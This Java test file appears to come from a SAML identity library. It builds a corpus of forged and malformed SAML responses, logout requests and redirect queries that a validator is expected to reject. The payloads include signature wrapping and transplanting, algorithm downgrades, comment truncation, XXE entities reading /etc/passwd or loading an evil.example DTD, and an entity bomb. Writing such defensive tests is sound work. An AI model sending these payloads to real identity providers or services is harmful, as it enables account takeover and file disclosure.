package atlas.identity.saml;

import static atlas.identity.saml.TestIdp.BASE;
import static atlas.identity.saml.TestIdp.NOW;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import javax.xml.crypto.dsig.spec.ExcC14NParameterSpec;
import javax.xml.crypto.dsig.spec.XPathFilterParameterSpec;

/** Makes the attacks from genuine messages of the test provider. */
final class Corpus {
    private final TestIdp idp;
    private final List<Attack> attacks = new ArrayList<>();

    private Corpus(TestIdp idp) {
        this.idp = idp;
    }

    static List<Attack> made(TestIdp idp) {
        Corpus corpus = new Corpus(idp);
        corpus.attacks.addAll(Wrapping.all(idp));
        corpus.signatures();
        corpus.references();
        corpus.xml();
        corpus.moments();
        corpus.addressees();
        corpus.identities();
        corpus.encryption();
        corpus.logouts();
        corpus.redirects();
        return corpus.attacks;
    }

    private Answer answer() {
        return new Answer(idp);
    }

    private void refuse(String name, String reason, String xml) {
        attacks.add(Attack.login(name, reason, xml));
    }

    private void signatures() {
        String both = answer().xml();
        refuse("unsigned", "saml_signature_missing", answer().signed(false, false).xml());
        refuse(
                "signature-cut-out",
                "saml_signature_missing",
                both.replaceAll("(?s)<ds:Signature .*?</ds:Signature>", ""));
        refuse(
                "name-changed-after-signing",
                "saml_signature_untrusted",
                both.replace(">alice<", ">mallory<"));
        refuse(
                "role-added-after-signing",
                "saml_signature_untrusted",
                both.replace(">other<", ">ai-admins<"));
        refuse(
                "signature-value-changed",
                "saml_signature_untrusted",
                both.replaceFirst("(<ds:SignatureValue>.{8})(.)", "$1" + "A"));
        XmlSigning attacker = XmlSigning.by(idp, "attacker");
        refuse(
                "signed-by-a-key-it-brings-along",
                "saml_signature_untrusted",
                answer().by(attacker).with("name", "mallory").xml());
        refuse(
                "response-genuine-assertion-by-attacker",
                "saml_signature_untrusted",
                answer().signing
                        .sign(answer().by(attacker).signed(false, true).xml(), "_response-1"));
        refuse(
                "rsa-sha1",
                "saml_signature_algorithm",
                answer().by(own().method(Names.SIGNATURE + "rsa-sha1")).xml());
        refuse(
                "sha1-digest",
                "saml_signature_algorithm",
                answer().by(own().digest(Names.SIGNATURE + "sha1")).xml());
        refuse(
                "hmac-with-the-public-key",
                "saml_signature_algorithm",
                both.replace(
                        Names.RSA_SHA256, "http://www.w3.org/2001/04/xmldsig-more#hmac-sha256"));
        refuse(
                "signature-without-key-info-by-attacker",
                "saml_signature_untrusted",
                answer().by(attacker).xml().replaceAll("(?s)<ds:KeyInfo>.*?</ds:KeyInfo>", ""));
        refuse(
                "signature-twice",
                "saml_signature_placement",
                both.replaceFirst("(?s)(<ds:Signature .*?</ds:Signature>)", "$1$1"));
        refuse(
                "signature-with-an-object",
                "saml_signature_placement",
                both.replaceFirst("</ds:Signature>", "<ds:Object>x</ds:Object></ds:Signature>"));
        refuse(
                "signature-of-another-response",
                "saml_signature_untrusted",
                transplanted(
                        answer().with("name", "bob").signed(true, false).xml(),
                        answer().signed(true, false).xml()));
    }

    private XmlSigning own() {
        return XmlSigning.by(idp, "idp");
    }

    private static String transplanted(String donor, String into) {
        String signature = donor.replaceAll("(?s).*(<ds:Signature .*</ds:Signature>).*", "$1");
        return into.replaceAll(
                "(?s)<ds:Signature .*</ds:Signature>",
                java.util.regex.Matcher.quoteReplacement(signature));
    }

    private void references() {
        String plain = answer().signed(false, false).xml();
        refuse(
                "reference-to-nothing",
                "saml_signature_reference",
                own().sign(plain, "_response-1", ""));
        refuse(
                "reference-to-the-assertion-only",
                "saml_signature_reference",
                own().sign(plain, "_response-1", "#_assertion-1"));
        refuse(
                "reference-by-xpointer",
                "saml_signature_reference",
                own().sign(plain, "_response-1", "#xpointer(id('_response-1'))"));
        refuse(
                "transform-xpath-that-selects",
                "saml_signature_transforms",
                own().transforms(() ->
                                List.of(
                                        XmlSigning.transform(Names.ENVELOPED),
                                        XmlSigning.transform(
                                                "http://www.w3.org/TR/1999/REC-xpath-19991116",
                                                new XPathFilterParameterSpec(
                                                        "not(ancestor-or-self::*[local-name()="
                                                                + "'NameID'])")),
                                        XmlSigning.transform(Names.EXCLUSIVE)))
                        .sign(plain, "_response-1"));
        refuse(
                "transform-inclusive-canonicalization",
                "saml_signature_transforms",
                own().transforms(() ->
                                List.of(
                                        XmlSigning.transform(Names.ENVELOPED),
                                        XmlSigning.transform(
                                                "http://www.w3.org/TR/2001/REC-xml-c14n-20010315")))
                        .sign(plain, "_response-1"));
        refuse(
                "transform-with-comments",
                "saml_signature_transforms",
                own().transforms(() ->
                                List.of(
                                        XmlSigning.transform(Names.ENVELOPED),
                                        XmlSigning.transform(Names.EXCLUSIVE + "WithComments")))
                        .sign(plain, "_response-1"));
        refuse(
                "transform-enveloped-only",
                "saml_signature_transforms",
                own().transforms(() -> List.of(XmlSigning.transform(Names.ENVELOPED)))
                        .sign(plain, "_response-1"));
        refuse(
                "transform-repeated",
                "saml_signature_transforms",
                own().transforms(() ->
                                List.of(
                                        XmlSigning.transform(Names.ENVELOPED),
                                        XmlSigning.transform(Names.EXCLUSIVE),
                                        XmlSigning.transform(
                                                Names.EXCLUSIVE,
                                                new ExcC14NParameterSpec(List.of("saml")))))
                        .sign(plain, "_response-1"));
        refuse(
                "transform-xslt",
                "saml_signature_transforms",
                answer().xml()
                        .replaceFirst(
                                "<ds:Transform Algorithm=\"" + Names.EXCLUSIVE + "\"/>",
                                "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/"
                                        + "REC-xslt-19991116\"><xsl:stylesheet version=\"1.0\""
                                        + " xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"/>"
                                        + "</ds:Transform>"));
        refuse(
                "canonicalization-inclusive",
                "saml_signature_form",
                own().canonicalization("http://www.w3.org/TR/2001/REC-xml-c14n-20010315")
                        .sign(plain, "_response-1"));
        refuse(
                "two-references",
                "saml_signature_form",
                answer().xml().replaceFirst("(?s)(<ds:Reference .*?</ds:Reference>)", "$1$1"));
        refuse(
                "manifest-in-place-of-signed-info",
                "saml_signature_form",
                answer().xml().replaceFirst("<ds:SignedInfo>", "<ds:Manifest/><ds:SignedInfo>"));
    }

    private void xml() {
        String both = answer().xml();
        refuse(
                "comment-cuts-the-name",
                "saml_comment",
                answer().with("name", "alice@evil.example")
                        .xml()
                        .replace(">alice@evil", ">alice<!-- -->@evil"));
        refuse(
                "comment-anywhere",
                "saml_comment",
                both.replace("</samlp:Status>", "</samlp:Status><!---->"));
        refuse("doctype", "saml_doctype", "<!DOCTYPE Response>" + both);
        refuse(
                "xxe-file",
                "saml_doctype",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + both.replace(">alice<", ">&x;<"));
        refuse(
                "xxe-parameter-entity",
                "saml_doctype",
                "<!DOCTYPE r [<!ENTITY % x SYSTEM \"https://evil.example/x.dtd\"> %x;]>" + both);
        refuse(
                "billion-laughs",
                "saml_doctype",
                "<!DOCTYPE r [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;\">"
                        + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>"
                        + both.replace(">alice<", ">&c;<"));
        refuse("entity-unknown", "saml_xml", both.replace(">alice<", ">&alice;<"));
        refuse(
                "processing-instruction",
                "saml_xml",
                both.replace("</samlp:Status>", "</samlp:Status><?x y?>"));
        refuse("id-twice", "saml_id_duplicate", both.replace("_response-1", "_assertion-1"));
        refuse(
                "id-spelled-another-way",
                "saml_id_duplicate",
                both.replaceFirst("<samlp:Status>", "<samlp:Status Id=\"_assertion-1\">"));
        refuse(
                "xml-id",
                "saml_id",
                both.replaceFirst("<samlp:Status>", "<samlp:Status xml:id=\"_assertion-1\">"));
        refuse(
                "deeply-nested",
                "saml_xml",
                both.replace(
                        "</samlp:Status>",
                        "<x>".repeat(200) + "</x>".repeat(200) + "</samlp:Status>"));
        refuse(
                "many-elements",
                "saml_size",
                both.replace("</samlp:Status>", "<x/>".repeat(6000) + "</samlp:Status>"));
        refuse("endless", "saml_size", both + " ".repeat(StrictXml.MAX_BYTES));
        refuse(
                "namespace-redefined",
                "saml_structure",
                both.replaceFirst(
                        "<samlp:Response xmlns:samlp=\"" + Names.PROTOCOL,
                        "<samlp:Response xmlns:samlp=\"" + Names.PROTOCOL + "x"));
        refuse(
                "saml-1-assertion",
                "saml_structure",
                answer().signed(true, false)
                        .xml()
                        .replace(Names.ASSERTION, "urn:oasis:names:tc:SAML:1.0:assertion"));
        refuse(
                "assertion-of-another-namespace",
                "saml_structure",
                own().sign(
                                answer().around(
                                                answer().assertion()
                                                        .replace(
                                                                Names.ASSERTION,
                                                                "urn:evil:assertion")),
                                "_response-1"));
        refuse("not-xml", "saml_xml", "SAMLResponse");
        refuse("json", "saml_xml", "{\"NameID\":\"alice\"}");
        refuse("utf-16", "saml_xml", "\uFEFF" + both);
        refuse(
                "two-documents",
                "saml_xml",
                both + answer().with("name", "mallory").signed(false, false).xml());
        refuse("element-in-the-name", "saml_text", answer().with("name", "<b>alice</b>").xml());
    }

    private void moments() {
        String past = NOW.minusSeconds(31).toString();
        String future = NOW.plusSeconds(31).toString();
        refuse("expired-conditions", "saml_expired", answer().with("not-on-or-after", past).xml());
        refuse(
                "expired-confirmation",
                "saml_expired",
                answer().with("confirmation.until", past).xml());
        refuse(
                "expired-session",
                "saml_expired",
                answer().with("session", Answer.attribute("SessionNotOnOrAfter", past)).xml());
        refuse(
                "issued-long-ago",
                "saml_expired",
                answer().with("issued", NOW.minusSeconds(3600).toString()).xml());
        refuse("issued-in-the-future", "saml_not_yet_valid", answer().with("issued", future).xml());
        refuse("not-yet-valid", "saml_not_yet_valid", answer().with("not-before", future).xml());
        refuse(
                "authenticated-in-the-future",
                "saml_not_yet_valid",
                answer().with("authenticated", future).xml());
        refuse(
                "confirmation-without-end",
                "saml_time",
                answer().with("confirmation.until", "").xml());
        refuse(
                "confirmation-with-a-beginning",
                "saml_confirmation",
                answer().with("confirmation.more", Answer.attribute("NotBefore", NOW.toString()))
                        .xml());
        refuse("time-that-is-none", "saml_time", answer().with("issued", "soon").xml());
        refuse(
                "time-without-zone",
                "saml_time",
                answer().with("not-on-or-after", "2026-03-01T13:00:00").xml());
        attacks.add(
                new Attack(
                        "replayed", "login", "genuine-response", "saml_replayed", answer().xml()));
        attacks.add(
                new Attack(
                        "second-assertion-for-one-request",
                        "login",
                        "genuine-response",
                        "saml_replayed",
                        answer().with("assertion.id", "_assertion-2").xml()));
    }

    private void addressees() {
        String other = "https://other.example/saml/acs";
        refuse(
                "another-destination",
                "saml_destination",
                answer().with("destination", other).xml());
        refuse("another-recipient", "saml_recipient", answer().with("recipient", other).xml());
        refuse(
                "another-audience",
                "saml_audience",
                answer().with("audience", audience("https://other.example/saml/metadata")).xml());
        refuse("no-audience", "saml_audience", answer().with("audience", "").xml());
        refuse(
                "audience-that-begins-like-ours",
                "saml_audience",
                answer().with("audience", audience(BASE + "/saml/metadata2")).xml());
        refuse(
                "one-of-two-restrictions-is-not-ours",
                "saml_audience",
                answer().with(
                                "audience",
                                audience(BASE + "/saml/metadata") + audience("https://x.example"))
                        .xml());
        refuse(
                "condition-nobody-knows",
                "saml_condition_unknown",
                answer().with("audience", audience(BASE + "/saml/metadata") + "<saml:Condition/>")
                        .xml());
        refuse(
                "answers-another-request",
                "saml_in_response_to",
                answer().with("in-response-to", Answer.attribute("InResponseTo", "_other"))
                        .with("subject.answers", Answer.attribute("InResponseTo", "_other"))
                        .xml());
        refuse(
                "assertion-answers-another-request",
                "saml_in_response_to",
                answer().with("subject.answers", Answer.attribute("InResponseTo", "_other")).xml());
        refuse(
                "answers-no-request",
                "saml_in_response_to",
                answer().with("in-response-to", "").with("subject.answers", "").xml());
        refuse(
                "holder-of-key-instead-of-bearer",
                "saml_confirmation",
                answer().with("confirmation.method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")
                        .xml());
        refuse(
                "login-that-failed",
                "saml_status",
                answer().with("status", "urn:oasis:names:tc:SAML:2.0:status:AuthnFailed").xml());
        refuse(
                "failed-with-success-inside",
                "saml_status",
                own().sign(
                                answer().signed(false, true)
                                        .with("status", Names.RESPONDER)
                                        .xml()
                                        .replace(
                                                "Value=\"" + Names.RESPONDER + "\"/>",
                                                "Value=\""
                                                        + Names.RESPONDER
                                                        + "\"><samlp:StatusCode Value=\""
                                                        + Names.SUCCESS
                                                        + "\"/></samlp:StatusCode>"),
                                "_response-1"));
        refuse("saml-1-version", "saml_version", answer().with("version", "1.1").xml());
    }

    private static String audience(String of) {
        return "<saml:AudienceRestriction><saml:Audience>"
                + of
                + "</saml:Audience></saml:AudienceRestriction>";
    }

    private void identities() {
        refuse(
                "another-issuer",
                "saml_issuer",
                answer().with("response.issuer", "https://evil.example")
                        .with("assertion.issuer", "https://evil.example")
                        .xml());
        refuse(
                "assertion-of-another-issuer",
                "saml_issuer",
                answer().with("assertion.issuer", "https://evil.example").xml());
        refuse(
                "issuer-with-a-slash",
                "saml_issuer",
                answer().with("assertion.issuer", TestIdp.ENTITY + "/").xml());
        refuse("name-that-is-a-pattern", "saml_name_malformed", answer().with("name", "*").xml());
        refuse(
                "name-of-two-parts",
                "saml_name_malformed",
                answer().with("name", "alice#root").xml());
        refuse(
                "name-of-two-lines",
                "saml_name_malformed",
                answer().with("name", "alice&#10;root").xml());
        refuse(
                "name-with-a-homoglyph",
                "saml_name_malformed",
                answer().with("name", "\u0430lice").xml());
        refuse("no-name", "saml_text", answer().with("name", "").xml());
        refuse("endless-name", "saml_name_malformed", answer().with("name", "a".repeat(300)).xml());
        refuse(
                "name-of-another-provider",
                "saml_name_qualifier",
                answer().with(
                                "name.attributes",
                                Answer.attribute("NameQualifier", "https://other.example"))
                        .xml());
        refuse(
                "name-that-changes-every-time",
                "saml_name_transient",
                answer().with("name.attributes", Answer.attribute("Format", Names.TRANSIENT))
                        .xml());
        refuse(
                "two-assertions-both-signed",
                "saml_assertion_count",
                own().sign(
                                answer().around(
                                                signedAlone("_assertion-1", "alice")
                                                        + signedAlone("_assertion-2", "mallory")),
                                "_response-1"));
        refuse("no-assertion", "saml_structure", own().sign(answer().around(""), "_response-1"));
        refuse(
                "two-authentication-statements",
                "saml_structure",
                answer().with("statements", "<saml:AuthnStatement AuthnInstant=\"" + NOW + "\"/>")
                        .xml());
        refuse(
                "statement-nobody-knows",
                "saml_structure",
                answer().with("statements", "<saml:Statement/>").xml());
    }

    private String signedAlone(String id, String name) {
        return own().sign(answer().with("assertion.id", id).with("name", name).assertion(), id);
    }

    private void encryption() {
        Sealing good = Sealing.to(idp);
        refuse(
                "encrypted-cbc",
                "saml_encryption_algorithm",
                answer().encrypted(good.cipher(Names.ENCRYPTION + "aes256-cbc")));
        refuse(
                "encrypted-rsa-1-5",
                "saml_encryption_algorithm",
                answer().encrypted(good.transport(Names.ENCRYPTION + "rsa-1_5")));
        refuse(
                "encrypted-oaep-sha1",
                "saml_encryption_algorithm",
                answer().encrypted(good.transport(Names.ENCRYPTION + "rsa-oaep-mgf1p")));
        refuse(
                "encrypted-oaep-sha1-digest",
                "saml_encryption_algorithm",
                answer().encrypted(good.digest(Names.SIGNATURE + "sha1")));
        refuse(
                "encrypted-to-somebody-else",
                "saml_decryption",
                answer().encrypted(good.to(idp.certificate("attacker").getPublicKey())));
        refuse(
                "encrypted-in-an-unsigned-response",
                "saml_signature_missing",
                answer().signed(false, true).encrypted(good));
        String encrypted = answer().encrypted(good);
        refuse(
                "encrypted-part-swapped-for-another",
                "saml_signature_untrusted",
                encrypted.replaceAll(
                        "(?s)<saml:EncryptedAssertion.*</saml:EncryptedAssertion>",
                        java.util.regex.Matcher.quoteReplacement(
                                good.encrypted(answer().with("name", "mallory").assertion()))));
        refuse(
                "encrypted-re-targeted",
                "saml_recipient",
                answer().with("recipient", "https://other.example/saml/acs").encrypted(good));
        refuse(
                "encrypted-beside-plain",
                "saml_assertion_count",
                own().sign(
                                answer().around(
                                                good.encrypted(answer().assertion())
                                                        + answer().with("assertion.id", "_b")
                                                                .assertion()),
                                "_response-1"));
        refuse(
                "encrypted-twice",
                "saml_assertion_count",
                own().sign(
                                answer().around(
                                                good.encrypted(
                                                        good.encrypted(answer().assertion()))),
                                "_response-1"));
        refuse(
                "encrypted-fragment-that-closes-its-parent",
                "saml_xml",
                own().sign(
                                answer().around(
                                                good.encrypted(
                                                        "</fragment><fragment>"
                                                                + answer().assertion())),
                                "_response-1"));
        refuse(
                "encrypted-two-elements",
                "saml_structure",
                own().sign(
                                answer().around(
                                                good.encrypted(
                                                        answer().assertion() + "<saml:Advice/>")),
                                "_response-1"));
        refuse(
                "encrypted-signed-by-attacker-inside",
                "saml_signature_untrusted",
                own().sign(
                                answer().around(
                                                good.encrypted(
                                                        XmlSigning.by(idp, "attacker")
                                                                .sign(
                                                                        answer().assertion(),
                                                                        "_assertion-1"))),
                                "_response-1"));
        refuse(
                "encrypted-points-elsewhere",
                "saml_structure",
                own().sign(
                                answer().around(
                                                good.encrypted(answer().assertion())
                                                        .replaceAll(
                                                                "(?s)<xenc:CipherValue>[^<]*</xenc:CipherValue>"
                                                                    + "</xenc:CipherData></xenc:EncryptedData>",
                                                                "<xenc:CipherReference"
                                                                    + " URI=\"file:///etc/passwd\"/>"
                                                                    + "</xenc:CipherData>"
                                                                    + "</xenc:EncryptedData>")),
                                "_response-1"));
    }

    private void logouts() {
        String good = Logouts.request();
        post("logout-unsigned", "saml_signature_missing", good);
        post(
                "logout-forged",
                "saml_signature_untrusted",
                XmlSigning.by(idp, "attacker").sign(good, "_logout-1"));
        post(
                "logout-of-another-name",
                "saml_signature_untrusted",
                Logouts.posted(idp, good).replace(">alice<", ">bob<"));
        attacks.add(
                new Attack(
                        "logout-replayed",
                        "logout-post",
                        "genuine-logout",
                        "saml_replayed",
                        Logouts.posted(idp, good)));
        post(
                "logout-for-somebody-else",
                "saml_destination",
                Logouts.posted(idp, good.replace(BASE, "https://other.example")));
        post(
                "logout-expired",
                "saml_expired",
                Logouts.posted(
                        idp,
                        good.replace(
                                NOW.plusSeconds(300).toString(), NOW.minusSeconds(31).toString())));
        post(
                "logout-issued-long-ago",
                "saml_expired",
                Logouts.posted(
                        idp,
                        good.replace(
                                "IssueInstant=\"" + NOW,
                                "IssueInstant=\"" + NOW.minusSeconds(3600))));
        post(
                "logout-of-another-issuer",
                "saml_issuer",
                Logouts.posted(idp, good.replace(TestIdp.ENTITY, "https://evil.example")));
        post("logout-is-an-assertion", "saml_signature_placement", answer().xml());
        post(
                "logout-wrapped",
                "saml_signature_placement",
                Logouts.request("bob", "session-2")
                        .replace(
                                "</samlp:LogoutRequest>",
                                Logouts.posted(idp, good).replace("_logout-1", "_logout-2")
                                        + "</samlp:LogoutRequest>"));
        String answer = Logouts.response("_nobody-asked", Names.SUCCESS);
        attacks.add(
                new Attack(
                        "logout-answer-nobody-asked-for",
                        "logout-post-answer",
                        "",
                        "saml_in_response_to",
                        own().sign(answer, "_done-1")));
    }

    private void post(String name, String reason, String xml) {
        attacks.add(new Attack(name, "logout-post", "", reason, xml));
    }

    private void redirects() {
        String good = Logouts.query(idp, "idp", "SAMLRequest", Logouts.request());
        redirect("redirect-unsigned", "saml_signature_missing", good.replaceAll("&SigAlg.*", ""));
        redirect(
                "redirect-forged",
                "saml_signature_untrusted",
                Logouts.query(idp, "attacker", "SAMLRequest", Logouts.request()));
        redirect(
                "redirect-sha1",
                "saml_signature_algorithm",
                good.replaceFirst(
                        "SigAlg=[^&]*",
                        "SigAlg=http%3A%2F%2Fwww.w3.org%2F2000%2F09%2Fxmldsig%23rsa-sha1"));
        redirect(
                "redirect-relay-state-changed",
                "saml_signature_untrusted",
                good.replaceFirst("RelayState=[^&]*", "RelayState=x"));
        redirect(
                "redirect-relay-state-dropped",
                "saml_signature_untrusted",
                good.replaceFirst("RelayState=[^&]*&", ""));
        redirect(
                "redirect-message-twice",
                "saml_parameters",
                Logouts.query(idp, "attacker", "SAMLRequest", Logouts.request())
                                .replaceAll("&.*", "&")
                        + good);
        redirect("redirect-request-and-response", "saml_parameters", good + "&SAMLResponse=x");
        redirect("redirect-more-parameters", "saml_parameters", good + "&x=y");
        redirect(
                "redirect-other-message-under-the-signature",
                "saml_signature_untrusted",
                Logouts.query(idp, "attacker", "SAMLRequest", Logouts.request("bob", "s"))
                                .replaceAll("&.*", "")
                        + good.replaceFirst("[^&]*", ""));
        redirect("redirect-bomb", "saml_size", bomb());
        redirect(
                "redirect-not-deflated",
                "saml_encoding",
                good.replaceFirst("SAMLRequest=[^&]*", "SAMLRequest=AAAA"));
        redirect(
                "redirect-with-a-signature-inside",
                "saml_signature_placement",
                Logouts.query(idp, "idp", "SAMLRequest", Logouts.posted(idp, Logouts.request())));
    }

    private String bomb() {
        return Logouts.query(idp, "idp", "SAMLRequest", " ".repeat(5_000_000));
    }

    private void redirect(String name, String reason, String query) {
        attacks.add(new Attack(name, "logout-redirect", "", reason, query));
    }

    static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
